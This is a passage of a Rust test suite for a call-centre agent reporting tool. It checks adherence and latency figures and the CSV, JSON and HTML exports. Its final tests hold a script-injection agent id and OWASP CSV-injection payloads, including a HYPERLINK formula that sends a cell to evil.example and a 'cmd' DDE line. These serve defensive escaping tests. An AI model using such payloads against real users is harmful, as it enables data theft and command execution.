//! Hand-computed fixtures: every number of the report is worked out below by hand.

use crate::store::on;
use chrono::{DateTime, Duration, TimeZone, Utc};

use super::*;
use crate::domain::{AgentState, Origin};
use crate::store::Backend;
use crate::store::attempts::{self, AttemptRow};
use crate::store::history::{self, NewInterval};
use crate::store::roster::{self, RosterEntry};
use crate::store::testing::backends;
use crate::store::testing::temp_store_on;
use crate::store::{Done, Store, to_ms};
use rstest_reuse::apply;

/// The exception threshold of the fixtures: two minutes.
/// The built-in kinds with a two-minute threshold.
fn judging() -> Judging {
    Judging::builtin(chrono::TimeDelta::minutes(2))
}

/// The window's start: 2026-11-20 09:00 UTC; the window is one hour.
fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 20, 9, 0, 0).unwrap()
}

fn minutes(m: i64) -> DateTime<Utc> {
    t0() + Duration::minutes(m)
}

fn window() -> Window {
    Window {
        from: t0(),
        to: minutes(60),
    }
}

fn attempt(
    id: &str,
    agent: &str,
    at: DateTime<Utc>,
    latency: i64,
    outcome: &str,
    violation: Option<&str>,
) -> AttemptRow {
    AttemptRow {
        id: id.into(),
        idempotency_key: None,
        agent_id: agent.into(),
        from_state: Some("READY".into()),
        target_state: "NOT_READY".into(),
        reason: "BREAK".into(),
        origin: "api".into(),
        actor: "api".into(),
        outcome: outcome.into(),
        violation: violation.map(Into::into),
        error: (outcome == "failed").then(|| "platform unavailable".into()),
        latency_ms: latency,
        requested_at: to_ms(at),
        completed_at: to_ms(at) + latency,
    }
}

async fn enter(store: &Store, agent: &str, state: AgentState, at: DateTime<Utc>) {
    enter_with(store, agent, (state, None), at).await;
}

async fn enter_with(
    store: &Store,
    agent: &str,
    (state, reason): (AgentState, Option<&str>),
    at: DateTime<Utc>,
) {
    let mut tx = store.begin_write().await.unwrap();
    history::switch_state(
        &mut tx,
        &NewInterval {
            agent_id: agent,
            state,
            reason,
            origin: Origin::Observed,
            at,
            attempt_id: None,
        },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
}

/// - a1: NOT_READY from 08:30 (before the window) to 09:15, READY 09:15–09:45, PAUSED
///   from 09:45 and still open. 20 attempts in the window with latencies 1..=20 ms
///   (inserted out of order): 14 succeeded, 3 AGENT_NOT_SCHEDULED, 1
///   MANDATORY_BREAK_VIOLATION, 1 STATE_CONFLICT, 1 failed. Plus one attempt 1 ms before
///   the window and one exactly at its end, both outside.
/// - a2: IDLE from 09:50, open; no attempts.
/// - a3: two attempts (20 ms, 10 ms), both succeeded; no intervals.
/// - a4: IDLE 07:00–08:00, wholly before the window: not in the report.
///
/// The roster names a1 (Ada Lovelace, team t_1 Care) and a3 (Grace Hopper, no team);
/// a2 was never listed.
async fn fixture(backend: Backend) -> (Store, tempfile::TempDir) {
    let (store, dir) = temp_store_on(backend).await;
    enter(&store, "a1", AgentState::NotReady, minutes(-30)).await;
    enter(&store, "a1", AgentState::Ready, minutes(15)).await;
    enter(&store, "a1", AgentState::Paused, minutes(45)).await;
    enter(&store, "a2", AgentState::Idle, minutes(50)).await;
    on!(store.reader(), |c| sqlx::query(
        "INSERT INTO state_intervals (agent_id, state, origin, started_at, ended_at)
         VALUES ('a4', 'IDLE', 'observed', $1, $2)",
    )
    .bind(to_ms(minutes(-120)))
    .bind(to_ms(minutes(-60)))
    .execute(c)
    .await
    .map(Done::from))
    .unwrap();

    let mut tx = store.begin_write().await.unwrap();
    let latencies = [
        7, 1, 20, 13, 2, 19, 3, 18, 4, 17, 5, 16, 6, 15, 8, 14, 9, 12, 10, 11,
    ];
    for (i, latency) in latencies.into_iter().enumerate() {
        let (outcome, violation) = match i {
            0..=2 => ("rejected", Some("AGENT_NOT_SCHEDULED")),
            3 => ("rejected", Some("MANDATORY_BREAK_VIOLATION")),
            4 => ("rejected", Some("STATE_CONFLICT")),
            5 => ("failed", None),
            _ => ("succeeded", None),
        };
        let row = attempt(
            &format!("a1-{i:02}"),
            "a1",
            minutes(1 + i as i64),
            latency,
            outcome,
            violation,
        );
        attempts::insert(&mut tx, &row).await.unwrap();
    }
    let before = attempt(
        "a1-before",
        "a1",
        t0() - Duration::milliseconds(1),
        999,
        "rejected",
        Some("STATE_CONFLICT"),
    );
    let at_end = attempt("a1-end", "a1", minutes(60), 999, "failed", None);
    attempts::insert(&mut tx, &before).await.unwrap();
    attempts::insert(&mut tx, &at_end).await.unwrap();
    attempts::insert(
        &mut tx,
        &attempt("a3-1", "a3", minutes(30), 20, "succeeded", None),
    )
    .await
    .unwrap();
    attempts::insert(
        &mut tx,
        &attempt("a3-2", "a3", minutes(31), 10, "succeeded", None),
    )
    .await
    .unwrap();
    roster::remember(
        &mut tx,
        &[
            named("a1", "Ada Lovelace", Some(("t_1", "Care"))),
            named("a3", "Grace Hopper", None),
        ],
        0,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    (store, dir)
}

fn named(id: &str, name: &str, team: Option<(&str, &str)>) -> RosterEntry {
    RosterEntry {
        agent_id: id.into(),
        name: Some(name.into()),
        team_id: team.map(|t| t.0.into()),
        team_name: team.map(|t| t.1.into()),
    }
}

async fn name_agents(store: &Store, entries: &[RosterEntry]) {
    let mut tx = store.begin_write().await.unwrap();
    roster::remember(&mut tx, entries, 0).await.unwrap();
    tx.commit().await.unwrap();
}

/// Collects every chunk.
#[derive(Default)]
struct Collect {
    chunks: Vec<Vec<u8>>,
}

impl Sink for Collect {
    async fn send(&mut self, chunk: Vec<u8>) -> io::Result<()> {
        self.chunks.push(chunk);
        Ok(())
    }
}

impl Collect {
    fn text(&self) -> String {
        String::from_utf8(self.chunks.concat()).unwrap()
    }
}

async fn render(store: &Store, report: &Report, format: ReportFormat) -> Collect {
    let mut sink = Collect::default();
    report
        .write(format, store.reader(), &mut sink)
        .await
        .unwrap();
    sink
}

async fn build(store: &Store, now: DateTime<Utc>) -> Report {
    Report::build(store.reader(), window(), now, None, &judging())
        .await
        .unwrap()
}

#[apply(backends)]
#[tokio::test]
async fn every_number_of_the_report_matches_the_hand_computed_fixture(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let ids: Vec<_> = report.agents.iter().map(|a| a.agent_id.as_str()).collect();
    assert_eq!(
        ids,
        ["a1", "a2", "a3"],
        "a4's interval is wholly before the window"
    );

    let a1 = &report.agents[0];
    assert_eq!(
        *a1,
        AgentSummary {
            agent_id: "a1".into(),
            name: Some("Ada Lovelace".into()),
            team_id: Some("t_1".into()),
            team: Some("Care".into()),
            transitions: 20,
            succeeded: 14,
            rejections: 5,
            failed: 1,
            rejections_agent_not_scheduled: 3,
            rejections_mandatory_break_violation: 1,
            rejections_state_conflict: 1,
            violation_frequency: Some(0.25),
            latency_mean_ms: Some(10.5),
            // ⌈0.95 × 20⌉ = 19th smallest of 1..=20.
            latency_p95_ms: Some(19),
            // NOT_READY 09:00–09:15 (clipped at from) + PAUSED 09:45–10:00 (open, clipped
            // at to although now is 11:00).
            idle_seconds: 1800.0,
            seconds_ready: 1800.0,
            seconds_not_ready: 900.0,
            seconds_paused: 900.0,
            seconds_idle: 0.0,
            seconds_logged_out: 0.0,
            seconds_on_contact: 0.0,
            seconds_acw: 0.0,
            adherence_pct: None,
            scheduled_seconds: None,
            in_adherence_seconds: None,
            unobserved_seconds: None,
            neutral_seconds: None,
            authorised_seconds: None,
            day: Vec::new(),
            adherence_exceptions: None,
        }
    );

    let a2 = &report.agents[1];
    assert_eq!(
        (&a2.name, &a2.team_id, &a2.team),
        (&None, &None, &None),
        "never listed: no name, no team"
    );
    assert_eq!(a2.transitions, 0);
    assert_eq!(a2.violation_frequency, None, "no attempts: unknown, not 0");
    assert_eq!(a2.latency_mean_ms, None);
    assert_eq!(a2.latency_p95_ms, None);
    assert_eq!(a2.seconds_idle, 600.0, "09:50 to the window's end");
    assert_eq!(a2.idle_seconds, 600.0);

    let a3 = &report.agents[2];
    assert_eq!(a3.name.as_deref(), Some("Grace Hopper"));
    assert_eq!(a3.team, None);
    assert_eq!(a3.transitions, 2);
    assert_eq!(a3.succeeded, 2);
    assert_eq!(a3.violation_frequency, Some(0.0));
    assert_eq!(a3.latency_mean_ms, Some(15.0));
    assert_eq!(a3.latency_p95_ms, Some(20), "⌈0.95 × 2⌉ = 2nd of [10, 20]");
    assert_eq!(a3.idle_seconds, 0.0);
}

#[apply(backends)]
#[tokio::test]
async fn open_intervals_count_up_to_now_when_now_is_inside_the_window(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(55)).await;
    let a1 = &report.agents[0];
    assert_eq!(a1.seconds_paused, 600.0, "09:45 to now (09:55)");
    assert_eq!(a1.idle_seconds, 900.0 + 600.0);
    assert_eq!(report.agents[1].seconds_idle, 300.0, "09:50 to now");
}

#[apply(backends)]
#[tokio::test]
async fn p95_is_the_nearest_rank_on_an_eleven_value_list(backend: Backend) {
    let (store, _dir) = temp_store_on(backend).await;
    let mut tx = store.begin_write().await.unwrap();
    // Sorted: 1..=10 then 100; ⌈0.95 × 11⌉ = 11, so the p95 is the largest value.
    for (i, latency) in [5, 1, 9, 100, 3, 7, 2, 8, 4, 6, 10].into_iter().enumerate() {
        let row = attempt(
            &format!("x{i}"),
            "x",
            minutes(i as i64),
            latency,
            "succeeded",
            None,
        );
        attempts::insert(&mut tx, &row).await.unwrap();
    }
    // 21 values: ⌈19.95⌉ = 20th.
    for latency in 1..=21 {
        let row = attempt(
            &format!("y{latency}"),
            "y",
            minutes(1),
            latency,
            "succeeded",
            None,
        );
        attempts::insert(&mut tx, &row).await.unwrap();
    }
    tx.commit().await.unwrap();
    let report = build(&store, minutes(120)).await;
    assert_eq!(report.agents[0].latency_p95_ms, Some(100));
    assert_eq!(report.agents[1].latency_p95_ms, Some(20));
}

#[apply(backends)]
#[tokio::test]
async fn csv_parses_back_with_one_row_per_agent_and_empty_unknowns(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let text = render(&store, &report, ReportFormat::Csv).await.text();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(headers.iter().collect::<Vec<_>>(), csv_export::COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let field = |row: &csv::StringRecord, name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row[i].to_owned()
    };
    assert_eq!(field(&rows[0], "agent_id"), "a1");
    assert_eq!(field(&rows[0], "transitions"), "20");
    assert_eq!(field(&rows[0], "rejections"), "5");
    assert_eq!(field(&rows[0], "rejections_state_conflict"), "1");
    assert_eq!(field(&rows[0], "violation_frequency"), "0.25");
    assert_eq!(field(&rows[0], "latency_mean_ms"), "10.5");
    assert_eq!(field(&rows[0], "latency_p95_ms"), "19");
    assert_eq!(field(&rows[0], "idle_seconds"), "1800");
    assert_eq!(field(&rows[0], "seconds_ready"), "1800");
    assert_eq!(field(&rows[0], "adherence_pct"), "");
    assert_eq!(field(&rows[0], "from"), "2026-11-20T09:00:00.000Z");
    assert_eq!(field(&rows[0], "to"), "2026-11-20T10:00:00.000Z");
    assert_eq!(field(&rows[1], "latency_p95_ms"), "", "unknown is empty");
    assert_eq!(field(&rows[1], "violation_frequency"), "");
}

#[apply(backends)]
#[tokio::test]
async fn a_time_zone_renders_the_window_in_local_time(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let zone = parse_zone("America/New_York").unwrap();
    let report = Report::build(
        store.reader(),
        window(),
        minutes(120),
        Some(zone),
        &judging(),
    )
    .await
    .unwrap();
    let text = render(&store, &report, ReportFormat::Csv).await.text();
    assert!(
        text.contains(",2026-11-20T04:00:00.000-05:00,2026-11-20T05:00:00.000-05:00"),
        "{text}"
    );
    assert!(
        parse_zone("Mars/Olympus")
            .unwrap_err()
            .contains("Mars/Olympus")
    );
}

#[apply(backends)]
#[tokio::test]
async fn json_has_the_window_the_agents_and_every_attempt_of_the_window(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let text = render(&store, &report, ReportFormat::Json).await.text();
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(json["from"], "2026-11-20T09:00:00.000Z");
    assert_eq!(json["to"], "2026-11-20T10:00:00.000Z");
    assert_eq!(json["generated_at"], "2026-11-20T11:00:00.000Z");
    assert_eq!(json["agents"].as_array().unwrap().len(), 3);
    assert_eq!(json["agents"][0]["latency_p95_ms"], 19);
    assert_eq!(json["agents"][1]["adherence_pct"], serde_json::Value::Null);
    let attempts = json["attempts"].as_array().unwrap();
    assert_eq!(
        attempts.len(),
        22,
        "20 of a1 and 2 of a3; the edges are outside"
    );
    assert_eq!(attempts[0]["id"], "a1-00");
    assert_eq!(attempts[0]["violation"], "AGENT_NOT_SCHEDULED");
    assert_eq!(attempts[0]["requested_at"], "2026-11-20T09:01:00.000Z");
    assert!(
        attempts
            .iter()
            .all(|a| a["id"] != "a1-before" && a["id"] != "a1-end")
    );
}

#[apply(backends)]
#[tokio::test]
async fn html_has_one_bar_group_per_agent_and_escapes_a_hostile_agent_id(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    enter(
        &store,
        "<script>alert('x')</script>",
        AgentState::Idle,
        minutes(10),
    )
    .await;
    let report = build(&store, minutes(120)).await;
    assert_eq!(report.agents.len(), 4);
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<svg"));
    assert_eq!(html.matches("<g class=\"agent\">").count(), 4);
    assert_eq!(html.matches("<rect class=\"idle\"").count(), 4);
    assert!(
        !html.contains("<script"),
        "no script element, not even the agent's"
    );
    assert!(html.contains("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;"));
    assert!(
        !html.contains("src=") && !html.contains("<link"),
        "no external assets"
    );
}

#[apply(backends)]
#[tokio::test]
async fn a_large_attempt_log_reaches_the_sink_in_bounded_chunks(backend: Backend) {
    let (store, _dir) = temp_store_on(backend).await;
    let mut tx = store.begin_write().await.unwrap();
    for i in 0..3_000 {
        let row = attempt(
            &format!("z{i:05}"),
            &format!("u{}", i % 7),
            minutes(i % 60),
            5,
            "succeeded",
            None,
        );
        attempts::insert(&mut tx, &row).await.unwrap();
    }
    tx.commit().await.unwrap();
    let report = build(&store, minutes(120)).await;
    let sink = render(&store, &report, ReportFormat::Json).await;
    assert!(
        sink.chunks.len() > 3,
        "streamed, not one buffer: {}",
        sink.chunks.len()
    );
    assert!(sink.chunks.iter().all(|c| c.len() < CHUNK_BYTES + 4096));
    let json: serde_json::Value = serde_json::from_str(&sink.text()).unwrap();
    assert_eq!(json["attempts"].as_array().unwrap().len(), 3_000);
}

#[test]
fn windows_must_be_ordered_and_at_most_366_days() {
    assert!(
        Window::checked(t0(), t0())
            .unwrap_err()
            .contains("must be after")
    );
    assert!(
        Window::checked(t0(), t0() + Duration::days(367))
            .unwrap_err()
            .contains("366 days")
    );
    assert_eq!(Window::checked(t0(), minutes(60)), Ok(window()));
    assert_eq!("HTML".parse::<ReportFormat>(), Ok(ReportFormat::Html));
    assert!("xml".parse::<ReportFormat>().unwrap_err().contains("`xml`"));
}

/// The fixture plus schedules (threshold two minutes; times UTC):
/// - a1 works 08:00–17:00 with a mandatory break 09:00–09:10 and an optional one
///   09:50–10:00. Against its states (NOT_READY 08:30–09:15, READY 09:15–09:45, PAUSED
///   from 09:45) the window 09:00–10:00 is:
///   09:00–09:10 NOT_READY in the break: adheres (10 min);
///   09:10–09:15 NOT_READY at work: does not (5 min), an exception opening at 09:12;
///   09:15–09:45 READY at work: adheres (30 min);
///   09:45–09:50 PAUSED at work: does not (5 min), an exception opening at 09:47;
///   09:50–10:00 PAUSED in the optional break: adheres (10 min).
///   Scheduled 60 min, in adherence 50 min: 83.33 %, 2 exceptions. (NOT_READY from
///   08:30 at work was an exception too, opened at 08:32: before the window.)
/// - a5 works 08:00–17:00 without breaks; NOT_READY 08:50–08:59:30, then IDLE, still
///   open. One deviation of one kind since 08:50: its exception opened at 08:52, so
///   none opens in the window, whose 60 scheduled minutes are not in adherence: 0 %.
///   (Without the intervals from before the window, IDLE from 08:59:30 would look like
///   an exception opening at 09:01:30.)
/// - a2 has no schedule: its adherence is unknown.
async fn adherence_fixture(backend: Backend) -> (Store, tempfile::TempDir) {
    use crate::domain::BreakWindow;
    use crate::domain::adherence::Shift;
    use crate::store::schedules::{BreakSource, StoredShift};
    let (store, dir) = fixture(backend).await;
    enter(&store, "a5", AgentState::NotReady, minutes(-10)).await;
    enter(
        &store,
        "a5",
        AgentState::Idle,
        minutes(-1) + Duration::seconds(30),
    )
    .await;
    let window = |start, end, mandatory| BreakWindow {
        start: minutes(start),
        end: minutes(end),
        kind: "BREAK".into(),
        mandatory,
    };
    let day = |agent: &str, breaks| StoredShift {
        agent_id: agent.into(),
        shift: Shift {
            start: minutes(-60),
            end: minutes(480),
            breaks,
            activities: vec![],
        },
        timezone: Some("Europe/Berlin".into()),
        breaks_from: BreakSource::Schedule,
        fetched_at: minutes(-120),
    };
    crate::store::testing::save_shifts(
        &store,
        &[
            day("a1", vec![window(0, 10, true), window(50, 60, false)]),
            day("a5", vec![]),
        ],
    )
    .await;
    (store, dir)
}

#[apply(backends)]
#[tokio::test]
async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Backend) {
    let (store, _dir) = adherence_fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let ids: Vec<_> = report.agents.iter().map(|a| a.agent_id.as_str()).collect();
    assert_eq!(ids, ["a1", "a2", "a3", "a5"]);
    let a1 = &report.agents[0];
    assert_eq!(a1.scheduled_seconds, Some(3600.0));
    assert_eq!(a1.in_adherence_seconds, Some(3000.0));
    assert_eq!(a1.adherence_exceptions, Some(2));
    assert_eq!(a1.adherence_pct, Some(3000.0 * 100.0 / 3600.0));
    assert_eq!(
        a1.seconds_ready, 1800.0,
        "the rest of the report is unchanged"
    );
    let a5 = &report.agents[3];
    assert_eq!(
        (
            a5.scheduled_seconds,
            a5.in_adherence_seconds,
            a5.adherence_exceptions,
            a5.adherence_pct
        ),
        (Some(3600.0), Some(0.0), Some(0), Some(0.0))
    );
    let a2 = &report.agents[1];
    assert_eq!(a2.scheduled_seconds, None);
    assert_eq!(a2.adherence_pct, None);

    let csv = render(&store, &report, ReportFormat::Csv).await.text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = headers.iter().position(|h| h == "adherence_pct").unwrap();
    let pct: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_owned())
        .collect();
    assert_eq!(pct, ["83.33333333333333", "", "", "0"]);

    let json = render(&store, &report, ReportFormat::Json).await.text();
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["agents"][0]["scheduled_seconds"], 3600.0);
    assert_eq!(json["agents"][0]["in_adherence_seconds"], 3000.0);
    assert_eq!(json["agents"][0]["adherence_exceptions"], 2);
    assert_eq!(
        json["agents"][1]["adherence_exceptions"],
        serde_json::Value::Null
    );

    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(html.contains("<th>Adherence exceptions</th>"));
    assert!(
        html.contains(
            "<td>83.3</td><td>1:00:00</td><td>0:50:00</td><td>0:00:00</td><td>0:00:00</td>\
             <td>0:00:00</td><td>2</td><td>20</td>"
        ),
        "durations read as h:mm:ss: {html}"
    );
    let summary = html.find("<h2>Summary</h2>").expect("a summary");
    assert!(
        summary < html.find("<h2>Per agent</h2>").unwrap(),
        "above the table"
    );
    for line in [
        "<th>Transitions</th><td>22</td>",
        "<th>Violation frequency (rejections per transition)</th><td>22.7%</td>",
        "<th>Idle time</th><td>1:40:00</td>",
        "<th>Mean adherence (per agent)</th><td>41.7% (over 2 agents)</td>",
        "<th>Scheduled time (of which unobserved)</th><td>2:00:00 (0:00:00)</td>",
    ] {
        assert!(html.contains(line), "{line} missing from the summary");
    }
}

#[test]
fn durations_are_hours_minutes_and_seconds() {
    use super::html_export::hms;
    assert_eq!(hms(0.0), "0:00:00");
    assert_eq!(hms(59.6), "0:01:00");
    assert_eq!(hms(3_723.0), "1:02:03");
    assert_eq!(hms(90_000.0), "25:00:00");
}

/// Stores a 09:00-17:00 shift without breaks for `agent`, as the book would.
async fn work_nine_to_five(store: &Store, agent: &str) {
    use crate::domain::adherence::Shift;
    use crate::store::schedules::{BreakSource, StoredShift};
    crate::store::testing::save_shifts(
        store,
        &[StoredShift {
            agent_id: agent.into(),
            shift: Shift {
                start: minutes(0),
                end: minutes(480),
                breaks: vec![],
                activities: vec![],
            },
            timezone: None,
            breaks_from: BreakSource::Schedule,
            fetched_at: minutes(-120),
        }],
    )
    .await;
}

#[apply(backends)]
#[tokio::test]
async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format(backend: Backend) {
    let (store, _dir) = adherence_fixture(backend).await;
    // a6 works 09:00-17:00; wfmd first saw it at 14:00, READY ever since. The report
    // covers the whole day and is made at 16:00.
    enter(&store, "a6", AgentState::Ready, minutes(300)).await;
    work_nine_to_five(&store, "a6").await;
    let day = Window {
        from: minutes(-540),
        to: minutes(900),
    };
    let report = Report::build(store.reader(), day, minutes(420), None, &judging())
        .await
        .unwrap();
    let a6 = report.agents.iter().find(|a| a.agent_id == "a6").unwrap();
    assert_eq!(a6.scheduled_seconds, Some(8.0 * 3600.0));
    assert_eq!(
        a6.unobserved_seconds,
        Some(6.0 * 3600.0),
        "09:00-14:00 unseen, 16:00-17:00 still to come"
    );
    assert_eq!(a6.in_adherence_seconds, Some(2.0 * 3600.0));
    assert_eq!(a6.adherence_pct, Some(100.0), "not 25 %");

    let csv = render(&store, &report, ReportFormat::Csv).await.text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "a6")
        .unwrap();
    assert_eq!(&row[column("adherence_pct")], "100");
    assert_eq!(&row[column("unobserved_seconds")], "21600");
    let json = render(&store, &report, ReportFormat::Json).await.text();
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let a6 = json["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["agent_id"] == "a6")
        .unwrap();
    assert_eq!(a6["unobserved_seconds"], 21600.0);
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(
        html.contains("<td>100.0</td><td>8:00:00</td><td>2:00:00</td><td>6:00:00</td>"),
        "{html}"
    );
}

#[apply(backends)]
#[tokio::test]
async fn authorised_and_neutral_time_are_reported_on_their_own_and_left_out_of_adherence(
    backend: Backend,
) {
    use crate::store::authorisations::{self, AuthorisationRow};
    let (store, _dir) = adherence_fixture(backend).await;
    // a7 works 09:00-17:00: READY, in a meeting 11:00-12:00 (neutral by a rule), on a
    // break 12:00-13:00 of which a supervisor authorised 12:00-12:30, READY again.
    enter(&store, "a7", AgentState::Ready, minutes(0)).await;
    enter_with(
        &store,
        "a7",
        (AgentState::NotReady, Some("MEETING")),
        minutes(120),
    )
    .await;
    enter_with(
        &store,
        "a7",
        (AgentState::NotReady, Some("BREAK")),
        minutes(180),
    )
    .await;
    enter(&store, "a7", AgentState::Ready, minutes(240)).await;
    work_nine_to_five(&store, "a7").await;
    let mut tx = store.begin_write().await.unwrap();
    let authorisation = |id: &str, withdrawn_at| AuthorisationRow {
        id: id.into(),
        agents: r#"["a7"]"#.into(),
        team: None,
        from_at: to_ms(minutes(180)),
        to_at: to_ms(minutes(210)),
        reason: "coaching ran over".into(),
        created_by: "desk".into(),
        created_at: to_ms(minutes(200)),
        withdrawn_at,
        withdrawn_by: withdrawn_at.map(|_| "desk".to_owned()),
    };
    authorisations::insert(&mut tx, &authorisation("auth-1", None))
        .await
        .unwrap();
    // A withdrawn one (the whole break) counts no more.
    let withdrawn = AuthorisationRow {
        to_at: to_ms(minutes(240)),
        ..authorisation("auth-0", Some(to_ms(minutes(205))))
    };
    authorisations::insert(&mut tx, &withdrawn).await.unwrap();
    tx.commit().await.unwrap();
    let judging: crate::config::ComplianceConfig = toml::from_str(
        "[[rules]]\nactivity = \"shift\"\nstates = [\"NOT_READY:MEETING\"]\nverdict = \"neutral\"\n",
    )
    .unwrap();
    let judging = judging.judging().unwrap();
    let day = Window {
        from: minutes(-540),
        to: minutes(900),
    };
    let report = Report::build(store.reader(), day, minutes(480), None, &judging)
        .await
        .unwrap();
    let a7 = report.agents.iter().find(|a| a.agent_id == "a7").unwrap();
    assert_eq!(a7.scheduled_seconds, Some(8.0 * 3600.0));
    assert_eq!(a7.neutral_seconds, Some(3600.0));
    assert_eq!(a7.authorised_seconds, Some(1800.0));
    assert_eq!(a7.in_adherence_seconds, Some(6.0 * 3600.0));
    assert_eq!(a7.unobserved_seconds, Some(0.0));
    // 6 h in adherence of 6.5 h judged (8 h less the neutral hour and authorised half).
    assert_eq!(a7.adherence_pct, Some(6.0 * 100.0 / 6.5));
    assert_eq!(a7.adherence_exceptions, Some(1), "12:30-13:00 not working");

    let csv = render(&store, &report, ReportFormat::Csv).await.text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "a7")
        .unwrap();
    assert_eq!(&row[column("neutral_seconds")], "3600");
    assert_eq!(&row[column("authorised_seconds")], "1800");
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(
        html.contains("<td>92.3</td><td>8:00:00</td><td>6:00:00</td><td>0:00:00</td><td>0:30:00</td><td>1:00:00</td><td>1</td>"),
        "{html}"
    );
    // The schedule against actual: the judged stretches of the day, on one axis.
    let view = &html[html
        .find("<figure class=\"day\" data-agent=\"a7\">")
        .expect("a7's view")..];
    let view = &view[..view.find("</figure>").unwrap()];
    for (from, to, judged) in [
        (0, 120, "in"),
        (120, 180, "neutral"),
        (180, 210, "authorised"),
        (210, 240, "out"),
        (240, 480, "in"),
    ] {
        let group = format!(
            "data-from=\"{}\" data-to=\"{}\" data-judged=\"{judged}\"",
            crate::time::rfc3339(minutes(from)),
            crate::time::rfc3339(minutes(to))
        );
        assert!(view.contains(&group), "{group} missing from {view}");
    }
}

/// Agent ids a spreadsheet would run as formulas (OWASP's CSV injection examples).
pub(crate) const FORMULA_IDS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tSUM(1)",
    "\r=1+1",
];

#[test]
fn text_cells_that_start_a_formula_get_a_quote_and_others_stay() {
    for id in FORMULA_IDS {
        assert_eq!(text_cell(id), format!("'{id}"));
    }
    for plain in ["u_001", "Care team", "", "a=b", "1-2", "'quoted"] {
        assert_eq!(text_cell(plain), plain);
    }
}

#[apply(backends)]
#[tokio::test]
async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    for id in FORMULA_IDS {
        enter(&store, id, AgentState::Idle, minutes(10)).await;
    }
    let report = build(&store, minutes(120)).await;
    assert_eq!(report.agents.len(), 3 + FORMULA_IDS.len());
    let text = render(&store, &report, ReportFormat::Csv).await.text();
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    let ids: Vec<&str> = rows.iter().map(|row| &row[0]).collect();
    for id in FORMULA_IDS {
        assert!(
            ids.contains(&format!("'{id}").as_str()),
            "{id:?} not neutralised: {ids:?}"
        );
    }
    assert!(ids.contains(&"a1"), "a plain id is unchanged");
    // The figures (between the id and the window's ends) are still numbers.
    let from = csv_export::COLUMNS
        .iter()
        .position(|c| *c == "from")
        .unwrap();
    for row in &rows {
        let figures = row.iter().skip(1).take(from - 1);
        for figure in figures {
            assert!(
                figure.is_empty() || figure.parse::<f64>().is_ok(),
                "{figure:?} in {row:?}"
            );
        }
    }
}

#[apply(backends)]
#[tokio::test]
async fn csv_has_name_and_team_after_the_window_empty_when_unknown(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let text = render(&store, &report, ReportFormat::Csv).await.text();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(Into::into).collect();
    assert_eq!(
        headers[..2],
        ["agent_id", "transitions"],
        "old columns stay put"
    );
    assert_eq!(
        headers[headers.len() - 7..],
        [
            "from",
            "to",
            "name",
            "team_id",
            "team",
            "neutral_seconds",
            "authorised_seconds"
        ],
        "new columns go at the end"
    );
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(Into::into).collect())
        .collect();
    let tail = |row: &Vec<String>| row[row.len() - 5..row.len() - 2].to_vec();
    assert_eq!(tail(&rows[0]), ["Ada Lovelace", "t_1", "Care"]);
    assert_eq!(tail(&rows[1]), ["", "", ""], "a2 was never listed");
    assert_eq!(tail(&rows[2]), ["Grace Hopper", "", ""]);
}

#[apply(backends)]
#[tokio::test]
async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    name_agents(&store, &[named("a1", hyperlink, Some(("+t_1", "@SUM(1)")))]).await;
    let report = build(&store, minutes(120)).await;
    let text = render(&store, &report, ReportFormat::Csv).await.text();
    let row = csv::Reader::from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
